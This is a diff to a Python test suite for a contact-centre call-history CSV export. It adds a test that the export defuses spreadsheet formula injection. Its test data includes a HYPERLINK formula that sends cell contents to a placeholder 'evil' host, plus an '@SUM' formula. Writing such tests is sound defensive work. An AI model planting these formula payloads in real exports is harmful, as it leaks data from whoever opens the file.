@@ -14,6 +14,7 @@ from contact_center.billing.tariffs import load_plans
 from contact_center.history.views import (
     BadCursor,
     TimelineFilter,
+    TimelineItem,
     call_detail,
     customer_timeline,
     export_csv,
@@ -48,7 +49,9 @@ async def history_of_three_calls(sessions: Sessions, tmp_path: Path) -> int:
 async def test_timeline_pages_through_everything_newest_first(db_url: str, tmp_path: Path) -> None:
     async with database(db_url) as sessions:
         customer = await history_of_three_calls(sessions, tmp_path)
-        seen, cursor, pages = [], None, 0
+        seen: list[TimelineItem] = []
+        cursor: str | None = None
+        pages = 0
         while True:
             page = await customer_timeline(sessions, customer, limit=5, cursor=cursor)
             seen.extend(page.items)
@@ -120,4 +123,31 @@ async def test_csv_export_reports_progress(db_url: str, tmp_path: Path) -> None:
         assert 27 == rows == len(table)
         assert [(10, 27), (20, 27), (27, 27)] == progress
         assert {str(customer)} == {r["customer_id"] for r in table}
+        assert "Inbound call from +74951234567 (Ivan Petrov) to 8800" == table[0]["summary"]
+
+
+async def test_csv_export_opens_operator_names_as_text(db_url: str, tmp_path: Path) -> None:
+    from dataclasses import replace
+
+    from contact_center.calls import events as ev
+
+    async with database(db_url) as sessions:
+        customer = await add_customer(sessions, "Ivan", "+74951234567")
+        writer = HistoryWriter(sessions, spill_dir=tmp_path / "spill")
+        names = {"6.0": '=HYPERLINK("http://evil/?"&A1,"x")', "6.1": "@SUM(A1:A9)"}
+        for i, (linkedid, name) in enumerate(names.items()):
+            for event in answered_call(linkedid, t0=T0 + i * 1000):
+                if isinstance(event, ev.CallAnswered):
+                    event = replace(event, member_name=name, interface="")
+                await writer.handle(event)
+        await writer.flush()
+        out = io.StringIO()
+        await export_csv(sessions, out, customer_id=customer)
+
+        table = list(csv.DictReader(io.StringIO(out.getvalue())))
+        answered = [r for r in table if r["kind"] == "call.answered"]
+        assert ["'" + names["6.0"], "'" + names["6.1"]] == [r["actor"] for r in answered]
+        assert "Answered by @SUM(A1:A9) from support after 4 s" == answered[1]["summary"]
+        # No cell anywhere opens as a formula; phone numbers stay as they are.
+        assert not any(v.startswith(("=", "@")) for r in table for v in r.values())
         assert "Inbound call from +74951234567 (Ivan Petrov) to 8800" == table[0]["summary"]
